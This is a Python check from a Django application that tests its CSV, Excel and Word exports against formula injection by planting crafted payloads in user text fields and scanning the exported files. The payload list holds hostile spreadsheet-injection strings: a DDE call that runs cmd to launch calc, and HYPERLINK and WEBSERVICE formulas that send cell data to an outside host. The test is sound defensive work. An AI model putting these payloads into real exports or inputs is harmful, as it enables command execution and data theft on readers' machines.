"""Exports are harmless: no text that somebody typed becomes a formula in a file we write."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from random import Random
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree

from trust.check import SQLITE, Check, Found, Scale

if TYPE_CHECKING:
    from django.db.models import Model

    from tests.parindex.rounds import SmallRound

MARK = "Zq7"
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BEFORE = (
    "",
    "",
    "",
    "\t",
    "\r",
    "\n",
    " ",
    "\u200b",
    "\ufeff",
    '"',
    "'",
    "a;",
    "a\t",
    'a;"',
    "a; ",
    "a|",
    ",",
    "\u00a0",
)
_BODIES = (
    "{mark}+cmd|'/C calc'!A0",
    'HYPERLINK("http://x.vn/?q="&A1,"{mark}")',
    "1+1+{mark}",
    "SUM(1;2){mark}",
    'DDE("cmd";"/C calc";"{mark}")',
    'WEBSERVICE("http://x.vn/{mark}")',
    '{mark}!A1;=1+1;"=2+2"',
    "{mark}\n=1+1\n-2+3",
)
# Texts that people type or that are made of what they typed.
_TYPED = frozenset(
    [
        *(
            "name",
            "short_name",
            "full_name",
            "title",
            "note",
            "sentence",
            "reason",
            "label",
            "issuer",
            "number",
        ),
        *("file_name", "conclusion", "source", "scale_text", "evidence_wanted", "pointer", "legal_basis"),
        *("explanation", "position", "text", "status", "signer"),
        *("remedy", "request", "source_text", "product", "metric", "cause_text", "content", "scope"),
        *("draft_text", "strengths", "requests", "outline", "topic", "conclusions", "leaf_text"),
    ]
)
_FIELDS = frozenset({"PAGE", "NUMPAGES", "SECTIONPAGES"})
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?%?")
# Where files for spreadsheet and word processors are written; a new place has to be tried here too.
# What these write, only our own reader opens: cells out of a workbook, and invented lists of the demo.
_READ_BY_US = {"delivery/dossiers/reading/workbooks.py", "demo/dossiers_made.py", "demo/one_stop.py"}
_WRITERS = {
    "common/csv_files.py": "csv.writer(",
    "backoffice/result_files.py": "csv.writer(",
    "common/workbooks.py": "xlsxwriter.Workbook(",
    "parindex/assessments/sheet_writing.py": "xlsxwriter.Workbook(",
    "reports/documents/word.py": "docx.Document(",
    "parindex/criteria/official_writing.py": "docx.Document(",
}


def payload(chance: Random) -> str:
    """A text that some program would take for a formula."""
    body = chance.choice(_BODIES).format(mark=MARK)
    return chance.choice(_BEFORE) + chance.choice(_SIGNS) + body


def run(scale: Scale) -> Found:
    import logging

    from tests.parindex import rounds

    logging.disable(logging.CRITICAL)
    violations = [*_unknown_writers()]
    written = scale.of(10_000, short=400)
    chance = scale.random("writers")
    payloads = [payload(chance) for _number in range(written)]
    for name, content in _by_the_writers(payloads):
        violations += [f"{name}: {fault}" for fault in formulas_in(name, content)]
    small = rounds.round_in_decision()
    exports = _exports(small)
    files = placed = 0
    with _texts_open():
        rounds_of_texts = 0
        while placed < scale.of(10_000, short=60):
            placed += _put(scale.random("texts", rounds_of_texts))
            rounds_of_texts += 1
            for name, make in exports:
                content = make()
                files += 1
                violations += [f"{name}: {fault}" for fault in formulas_in(name, content)]
                if not _holds_mark(name, content):
                    violations.append(f"{name}: holds none of the texts, so it shows nothing")
    return Found(
        figures={
            "payloads through the writers": written,
            "payloads in the database": placed,
            "exports": len(exports),
            "files looked through": files,
        },
        violations=tuple(dict.fromkeys(violations))[:50],
        planted=_planted(payloads[:200]),
    )


def _by_the_writers(payloads: list[str]) -> Iterator[tuple[str, bytes]]:
    """The functions that all exports write with, each with every payload."""
    from openpar.backoffice.result_files import as_csv
    from openpar.common.spreadsheets import Column, SheetSpec, write_csv, write_workbook

    rows = [payloads[place : place + 4] for place in range(0, len(payloads) - 3, 4)]
    text = io.StringIO(newline="")
    write_csv(text, payloads[:4], rows)
    yield "write_csv.csv", text.getvalue().encode()
    yield "as_csv.csv", as_csv(payloads[:4], rows).encode()
    book = io.BytesIO()
    columns = tuple(Column(title, choices=(title, "b")) for title in payloads[:4])
    sheet = SheetSpec(payloads[0], columns, rows, heading=tuple(payloads[:3]), footing=tuple(payloads[3:6]))
    write_workbook(book, [sheet])
    yield "write_workbook.xlsx", book.getvalue()


def _exports(small: SmallRound) -> tuple[tuple[str, Callable[[], bytes]], ...]:
    """Every address that answers with such a file, asked for by somebody who may have it."""
    from django.test import Client
    from django.urls import reverse

    from openpar.base.accounts.models import Role, User
    from openpar.reports.periodic.models import PeriodicReport
    from openpar.web.account.stamps import SECOND_FACTOR, Passed
    from tests import factories
    from tests.reform.findings.pages import finding_things
    from tests.reform.inspections.pages import inspection_things
    from tests.reform.monitors.pages import register_things
    from tests.reform.plans.pages import plan_things
    from tests.reports.periodic.pages import report_things
    from trust.asking import body_of

    auditor = factories.person_as(Role.AUDITOR, small.home_affairs, "Giám sát")
    case = inspection_things(small.manager, small.home_affairs).case
    finding_things(small.health, small.home_affairs)
    plan = plan_things(small.home_affairs).plan
    # Before a model runs that a report has to tell of.
    reports = report_things(small.home_affairs)
    period = PeriodicReport.objects.get(pk=reports.accepted)
    register_things(small.home_affairs)
    manager = User.objects.get(pk=small.manager.person_id)
    sheet = small.sheet(small.health).pk
    addresses: list[tuple[str, str, User]] = [
        ("matrix.xlsx", reverse("round-matrix", args=[small.round.pk]), manager),
        ("decision.docx", reverse("round-decision", args=[small.round.pk]), manager),
        ("notice.docx", reverse("unit-notice", args=[small.round.pk, sheet]), manager),
        ("report.docx", reverse("assessment-report", args=[sheet]), manager),
        ("report.xlsx", reverse("assessment-sheet", args=[sheet]), manager),
        ("sheet.xlsx", reverse("sheet-download", args=[sheet]), manager),
        ("template.csv", reverse("round-outside-template", args=[small.round.pk]), manager),
        ("criteria.xlsx", reverse("criteria-export", args=[small.criteria_set.pk, "xlsx"]), manager),
        ("criteria.docx", reverse("criteria-export", args=[small.criteria_set.pk, "docx"]), manager),
        ("audit.csv", reverse("audit-export"), auditor),
        ("initiatives.xlsx", reverse("initiatives-export"), auditor),
        ("register.xlsx", reverse("monitor-export", args=["training"]), auditor),
        ("observations.xlsx", reverse("inspection-export", args=[case]), auditor),
        ("findings.xlsx", f"{reverse('findings-export')}?year=all", auditor),
        ("tasks.xlsx", reverse("plan-export", args=[plan]), auditor),
        ("plan.xlsx", reverse("plan-paper", args=[plan, 1, "plan", "xlsx"]), auditor),
        ("appendix.xlsx", reverse("report-appendix", args=[reports.draft]), auditor),
        (
            "rollup.xlsx",
            f"{reverse('reports-board-export')}?year={period.year}&report={period.code}",
            auditor,
        ),
    ]

    def asked(address: str, user: User) -> Callable[[], bytes]:
        def make() -> bytes:
            client = Client(SERVER_NAME="localhost")
            client.force_login(user)
            # What the log-in page would have asked beside the password.
            session = client.session
            session[SECOND_FACTOR] = str(Passed.SHOWN)
            session.save()
            answer = client.get(address)
            if answer.status_code != 200:
                raise AssertionError(f"{address}: {answer.status_code}")
            return body_of(answer)

        return make

    return tuple((name, asked(address, user)) for name, address, user in addresses)


@contextmanager
def _texts_open() -> Iterator[None]:
    """The guards of the database are away: texts are put where the actions would have put them."""
    from openpar.common.triggers import drop_triggers

    drop_triggers()
    yield


def _put(chance: Random) -> int:
    """A payload into every text of every row; how many there were."""
    from django.apps import apps

    placed = 0
    for model in apps.get_models():
        if not model.__module__.startswith("openpar."):
            continue
        names = [*_typed_fields(model)]
        for pk in model._default_manager.values_list("pk", flat=True) if names else ():
            texts = {name: payload(chance)[:longest] for name, longest in names}
            placed += _replaced(model, pk, texts)
    _forget()
    return placed


def _replaced(model: type[Model], pk: object, texts: Mapping[str, str]) -> int:
    """How many of the texts could stand in the row; some belong to another state of it."""
    from django.db import IntegrityError, transaction

    rows = model._default_manager.filter(pk=pk)
    try:
        with transaction.atomic():
            rows.update(**texts)
        return len(texts)
    except IntegrityError:
        if len(texts) == 1:
            return 0
        return sum(_replaced(model, pk, {name: text}) for name, text in texts.items())


def _typed_fields(model: type[Model]) -> Iterator[tuple[str, int]]:
    from django.db.models import CharField, TextField

    for found in model._meta.get_fields():
        is_text = isinstance(found, CharField | TextField) and not found.choices and not found.unique
        if is_text and found.name in _TYPED:
            yield found.name, getattr(found, "max_length", None) or 200


def _forget() -> None:
    """What was read before is read anew."""
    import gc

    for known in gc.get_objects():
        if type(known).__name__ == "_lru_cache_wrapper" and known.__module__.startswith("openpar."):
            known.cache_clear()


def formulas_in(name: str, content: bytes) -> Iterator[str]:
    """Everything in a file that a program would compute, fetch or run."""
    if name.endswith(".csv"):
        yield from _csv_formulas(content.decode("utf-8-sig"))
    elif name.endswith(".xlsx"):
        yield from _xlsx_formulas(content)
    else:
        yield from _docx_fields(content)


def _csv_formulas(text: str) -> Iterator[str]:
    """However the country of the reader separates columns."""
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                bare = cell.lstrip("\t\r\n \u00a0\u200b\ufeff")
                if bare.startswith(_SIGNS) and not _NUMBER.fullmatch(bare.strip()):
                    yield f"separated by {delimiter!r}: {cell[:60]!r}"


def _xlsx_formulas(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for member in archive.namelist():
            if "externalLink" in member or "connections" in member:
                yield f"links to elsewhere: {member}"
            if not member.startswith("xl/worksheets/sheet"):
                continue
            for element in ElementTree.fromstring(archive.read(member)).iter():
                tag = element.tag.rpartition("}")[2]
                if tag in {"f", "hyperlink"}:
                    yield f"{member}: <{tag}> {(element.text or '')[:60]!r}"
                elif tag == "formula1" and _calls_something(element.text or ""):
                    yield f"{member}: a rule with {(element.text or '')[:60]!r}"


def _calls_something(rule: str) -> bool:
    """A rule of a cell is a list in quotation marks or a range of cells of ours, nothing else."""
    is_list = rule.startswith('"') and rule.endswith('"')
    return not is_list and not re.fullmatch(r"'?[^'!(]+'?!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+|-?\d+(\.\d+)?", rule)


def _docx_fields(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for member in archive.namelist():
            if not member.endswith(".xml"):
                continue
            for element in ElementTree.fromstring(archive.read(member)).iter():
                tag = element.tag.rpartition("}")[2]
                told = element.text or "" if tag == "instrText" else ""
                if tag == "fldSimple":
                    told = next((value for key, value in element.items() if key.endswith("}instr")), "")
                if told.split()[:1] and told.split()[0] not in _FIELDS:
                    yield f"{member}: a field {told[:60]!r}"


def _holds_mark(name: str, content: bytes) -> bool:
    if name.endswith(".csv"):
        return MARK in content.decode("utf-8-sig")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return any(MARK.encode() in archive.read(member) for member in archive.namelist())


def _unknown_writers() -> Iterator[str]:
    """Whoever writes such files without being known here."""
    import openpar

    source = Path(openpar.__path__[0])
    for path in sorted(source.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(source).as_posix()
        for word in ("csv.writer(", "csv.DictWriter(", "xlsxwriter.Workbook(", "docx.Document("):
            reads = word == "docx.Document(" and "docx.Document(io.BytesIO(path.read_bytes()))" in text
            if word in text and _WRITERS.get(name) != word and not reads and name not in _READ_BY_US:
                yield f"{name} writes with {word} and is not tried here"


def _planted(payloads: list[str]) -> dict[str, bool]:
    """Writers that write strings as they are, and one that looks at the first letter only."""
    import xlsxwriter

    def as_they_are(clean: Callable[[str], str]) -> bytes:
        text = io.StringIO(newline="")
        csv.writer(text).writerows([["x", clean(each)] for each in payloads])
        return text.getvalue().encode()

    def first_letter(cell: str) -> str:
        return f"'{cell}" if cell.startswith(("=", "+", "-", "@", "\t", "\r")) else cell

    book = io.BytesIO()
    with xlsxwriter.Workbook(book) as workbook:
        sheet: Any = workbook.add_worksheet()
        for row, each in enumerate(payloads):
            sheet.write(row, 0, each)
    return {
        "a CSV writer that writes strings as they are": any(formulas_in("a.csv", as_they_are(str))),
        "a CSV writer that looks at the first letter only": any(
            formulas_in("a.csv", as_they_are(first_letter))
        ),
        "a workbook writer that guesses types": any(formulas_in("a.xlsx", book.getvalue())),
    }


CHECK = Check(
    "export_injection",
    "exports are harmless: no typed text becomes a formula in a spreadsheet or a field in a document",
    run,
    (SQLITE,),
)
